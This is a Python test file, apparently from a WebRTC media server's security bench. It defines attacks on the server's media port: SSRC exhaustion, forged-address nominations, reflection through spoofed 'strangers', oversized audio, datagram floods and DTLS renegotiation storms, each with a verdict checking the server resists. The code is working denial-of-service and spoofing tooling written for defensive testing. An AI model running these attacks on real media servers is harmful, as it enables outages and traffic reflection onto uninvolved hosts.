"""Attacks on the media port: with a transport of the attacker's own, or with none."""

from __future__ import annotations

import asyncio
import secrets
import socket
import struct
import time
from typing import Any

from OpenSSL import SSL

from bench.attack.attack import Attack, Verdict, steadily
from bench.attack.intruder import Intruder
from bench.light.sdp import OPUS, VP8
from sfu.net.dtls import Certificate, DtlsConnection
from sfu.net.srtp import SrtpProfile
from sfu.wire import rtcp, transport_cc

VOICE_LIMIT_BPS = 1_000_000
"""More than any voice: what is forwarded above it is an attack on the receivers' networks."""
VOICE_BURST_BITS = 4_000_000
"""Until it is noticed, a fifth of a second."""
AMPLIFICATION = 3
"""Bytes to an unproven address for each byte that came from there (as RFC 9000 clause 8.1)."""
_DATAGRAM_OVERHEAD = 28
"""IPv4 and UDP headers; they count on both sides."""
_KEYFRAME = b"\x10" + b"\x10\0\0\x9d\x01\x2a" + struct.pack("<HH", 64, 64)
"""A VP8 payload descriptor (RFC 7741) with the first bytes of a whole keyframe (RFC 6386 9.1)."""


def keyframe(size: int) -> bytes:
    """A one-packet VP8 keyframe of `size` random bytes; nothing decodes it."""
    return _KEYFRAME + secrets.token_bytes(size - len(_KEYFRAME))


class Talker:
    """Sends one track at a steady rate, so that there is something to steal or to divert."""

    def __init__(self, intruder: Intruder, size: int, rate: float) -> None:
        self._intruder, self._size, self._rate = intruder, size, rate
        self.sent = 0

    async def run(self, until: float) -> None:
        """Keyframes of one packet each, `rate` a second."""
        link, stream = self._intruder.upstream, self._intruder.streams[0]
        assert link is not None

        def send(_: int) -> None:
            link.send_rtp(stream.ssrc, VP8, self.sent, 90_000 * self.sent // 50,
                          keyframe(self._size))  # fmt: skip
            self.sent += 1

        await steadily(self._rate, until, send)


class SrtcpSsrcs(Attack):
    """libsrtp keeps a stream for each SSRC that it is shown, and searches them one by one."""

    title = "validly protected packets under ever new SSRCs, 1,500 a second"

    async def prepare(self) -> None:
        talker = await self.intruder(1, self.room())
        await talker.publish(("audio",))
        listener = await self.intruder(2, self.room())
        self._links = [talker.upstream, await listener.subscribed()]
        self._sent = 0

    async def run(self, until: float) -> None:
        upstream, downstream = self._links
        assert upstream is not None
        assert downstream is not None

        def send(number: int) -> None:
            link = downstream if number % 6 == 1 else upstream
            ssrc = secrets.randbits(32)
            if number % 6 == 2:
                link.send_rtp(ssrc, OPUS, number, number, secrets.token_bytes(20))
            else:
                link.association.send_rtcp(rtcp.receiver_report(ssrc))
            context = link.association.outbound
            if context is not None:
                # Or the attacker would suffer first.
                context.remove_stream(ssrc)

        self._sent = await steadily(1500, until, send)

    async def verdict(self) -> Verdict:
        return Verdict(self._sent > 0, f"{self._sent} packets, each under an SSRC of its own")


class AddressTheft(Attack):
    """A valid check from another's address must not take the address away from its owner."""

    title = "checks of one transport with the forged source address of a listener, each second"

    async def prepare(self) -> None:
        talker = await self.intruder(1, self.room())
        await talker.publish(("video",))
        self._talker = Talker(talker, 300, 50)
        listener = await self.intruder(2, self.room())
        self._victim = await listener.subscribed()
        thief = await self.intruder(3, self.room("thief"))
        self._thief = await thief.publish(("audio",))
        await self._talker.run(time.monotonic() + 0.3)

    async def run(self, until: float) -> None:
        victim = self._victim
        (media_ssrc, before), *_ = victim.by_ssrc.most_common(1) or [(0, 0)]
        sent = self._talker.sent
        self._asked = 0

        async def steal() -> None:
            while time.monotonic() < until:
                # What leaves the victim's own socket has the victim's address as its source.
                victim.association.send(self._thief.nomination())
                await asyncio.sleep(0.25)
                # Does anybody still listen to the victim? A resend comes under another SSRC.
                wanted = victim.newest.get(media_ssrc, 0)
                victim.association.send_rtcp(
                    rtcp.receiver_report(1) + rtcp.nack(1, media_ssrc, [wanted])
                )
                self._asked += 1
                await asyncio.sleep(0.25)

        await asyncio.gather(self._talker.run(until), steal())
        await asyncio.sleep(0.1)
        self._sent = self._talker.sent - sent
        self._received = victim.by_ssrc[media_ssrc] - before
        self._resent = victim.media_packets - victim.by_ssrc[media_ssrc]

    async def verdict(self) -> Verdict:
        text = (
            f"the listener got {self._received} of {self._sent} packets"
            f" and {self._resent} of {self._asked} that it asked for again"
        )
        whole = 0 < 0.95 * self._sent <= self._received
        return Verdict(whole and self._resent >= self._asked // 2, text)


class Stranger:
    """A socket at an address that never asked for anything, and counts what it gets."""

    def __init__(self, address: str, target: tuple[str, int]) -> None:
        self.socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.socket.setblocking(False)
        self.socket.bind((address, 0))
        self.socket.connect(target)
        self.received = self.forged = 0
        """Bytes with their headers."""
        asyncio.get_running_loop().add_reader(self.socket.fileno(), self._read)

    def forge(self, datagram: bytes) -> None:
        """Let a datagram seem to come from here."""
        self.forged += len(datagram) + _DATAGRAM_OVERHEAD
        self.socket.send(datagram)

    def _read(self) -> None:
        for _ in range(64):
            try:
                self.received += len(self.socket.recv(2048)) + _DATAGRAM_OVERHEAD
            except OSError:
                return

    def close(self) -> None:
        asyncio.get_running_loop().remove_reader(self.socket.fileno())
        self.socket.close()


class Reflection(Attack):
    """Media may be sent only to addresses that answer; the attacker knows the keys."""

    title = "nominations and feedback with the forged sources of strangers, each second"
    strangers = 8

    async def prepare(self) -> None:
        talker = await self.intruder(1, self.room())
        await talker.publish(("video",))
        self._talker = Talker(talker, 1000, 100)
        forger = await self.intruder(2, self.room())
        self._link = await forger.subscribed()
        await self._talker.run(time.monotonic() + 0.3)
        target = self._link.plan.address
        self._strangers = [Stranger(self.address(100 + n), target) for n in range(self.strangers)]

    async def run(self, until: float) -> None:
        # From here on nothing of its own brings the media back to the forger.
        self._link.rest()
        await asyncio.gather(self._talker.run(until), self._forge(until))
        await asyncio.sleep(0.1)

    async def _forge(self, until: float) -> None:
        association, number = self._link.association, 0
        while time.monotonic() < until:
            association.send_rtcp(rtcp.receiver_report(1))
            for stranger in self._strangers:
                stranger.forge(self._link.nomination())
                stranger.forge(self._feedback(number))
                number += 1
                await asyncio.sleep(0.02)
            await asyncio.sleep(0.8)

    def _feedback(self, number: int) -> bytes:
        """Claims that all of a guessed range has come."""
        context = self._link.association.outbound
        assert context is not None
        deltas: list[int | None] = [4] * 200
        claimed = transport_cc.encode(1, 1, 150 * number & 0xFFFF, number, number & 0xFF, deltas)
        return context.protect_rtcp(rtcp.receiver_report(1) + claimed) or b""

    async def verdict(self) -> Verdict:
        worst = max(s.received / max(1, s.forged) for s in self._strangers)
        total = sum(s.received for s in self._strangers)
        forged = sum(s.forged for s in self._strangers)
        text = f"strangers got {total} bytes for {forged} forged, {worst:.1f} times at most"
        return Verdict(forged > 0 and worst <= AMPLIFICATION, text)

    async def close(self) -> None:
        for stranger in getattr(self, "_strangers", ()):
            stranger.close()
        await super().close()


class FatAudio(Attack):
    """A voice has a bit rate; what exceeds it must not reach the others."""

    title = "a voice of 20 Mbit/s in a room of two"

    async def prepare(self) -> None:
        talker = await self.intruder(1, self.room())
        self._up = await talker.publish(("audio",))
        self._ssrc = talker.streams[0].ssrc
        listener = await self.intruder(2, self.room())
        self._down = await listener.subscribed()

    async def run(self, until: float) -> None:
        begin, before = time.monotonic(), self._down.media_bytes
        body = secrets.token_bytes(1100)

        def send(number: int) -> None:
            self._up.send_rtp(self._ssrc, OPUS, number, 960 * number, body)

        self._sent = await steadily(20e6 / 8 / len(body), until, send)
        self._bits = 8 * (self._down.media_bytes - before)
        self._seconds = time.monotonic() - begin

    async def verdict(self) -> Verdict:
        allowed = VOICE_BURST_BITS + VOICE_LIMIT_BPS * self._seconds
        mean = self._bits / self._seconds / 1e6
        text = f"the listener got {mean:.2f} Mbit/s of {self._sent} packets"
        return Verdict(self._sent > 0 and self._bits <= allowed, text)


class PacketFlood(Attack):
    """Every datagram costs something; the costly steps have budgets."""

    title = "8,000 datagrams a second: tiny SRTP, signed checks, and what is nothing at all"

    async def prepare(self) -> None:
        talker = await self.intruder(1, self.room())
        self._up = await talker.publish(("audio",))
        self._ssrc = talker.streams[0].ssrc
        self._stranger = Stranger(self.address(9), self._up.plan.address)
        self._junk = [bytes([n % 256]) + secrets.token_bytes(n % 200) for n in range(512)]

    async def run(self, until: float) -> None:
        check = self._up.nomination()

        def send(number: int) -> None:
            kind = number % 8
            if kind < 4:
                self._up.send_rtp(self._ssrc, OPUS, number, 960 * number, b"12345678")
            elif kind == 4:
                self._up.association.send(check)
            else:
                self._stranger.forge(self._junk[number % 512])

        self._sent = await steadily(8000, until, send)

    async def verdict(self) -> Verdict:
        return Verdict(self._sent > 0, f"{self._sent} datagrams")

    async def close(self) -> None:
        if hasattr(self, "_stranger"):
            self._stranger.close()
        await super().close()


class LenientCertificate(Certificate):
    """Whose owner would renegotiate, which `Certificate` never does."""

    def context(self, profiles: tuple[SrtpProfile, ...]) -> SSL.Context:
        context = self._contexts.get(profiles)
        if context is None:
            context = SSL.Context(SSL.DTLS_METHOD)
            context.use_certificate(self._certificate)
            context.use_privatekey(self._key)
            context.set_tlsext_use_srtp(b":".join(p.openssl_name for p in profiles))
            self._contexts[profiles] = context
        return context


class Renegotiator(DtlsConnection):
    """A client that begins new handshakes under the keys of the first."""

    def again(self) -> None:
        """A ClientHello in the middle of the connection."""
        try:
            self._ssl.renegotiate()
            self._ssl.do_handshake()
        except SSL.Error:
            return

    @property
    def times(self) -> int:
        """New handshakes that came about; OpenSSL counts one that is refused, too."""
        return 0 if self._ssl.renegotiate_pending() else self._ssl.total_renegotiations()


class Renegotiation(Attack):
    """Each handshake costs signatures; one a connection is enough (RFC 8827 clause 6.5)."""

    title = "DTLS handshakes begun anew in established connections, 40 a second"

    async def prepare(self) -> None:
        made: list[Renegotiator] = []

        class Ours(Renegotiator):
            def __init__(self, *arguments: Any) -> None:
                super().__init__(*arguments)
                made.append(self)

        self._made, self._links = made, []
        for number in range(1, 5):
            one = await self.intruder(number, self.room())
            one.certificate = LenientCertificate.generate()
            self._links.append(await one.publish(("audio",), Ours))

    async def run(self, until: float) -> None:
        def send(number: int) -> None:
            connection = self._made[number % len(self._made)]
            connection.again()
            for datagram in connection.datagrams_to_send():
                self._links[number % len(self._links)].association.send(datagram)

        self._sent = await steadily(40, until, send)
        await asyncio.sleep(0.2)

    async def verdict(self) -> Verdict:
        done = sum(connection.times for connection in self._made)
        return Verdict(self._sent > 0 and not done, f"{done} of {self._sent} came about")
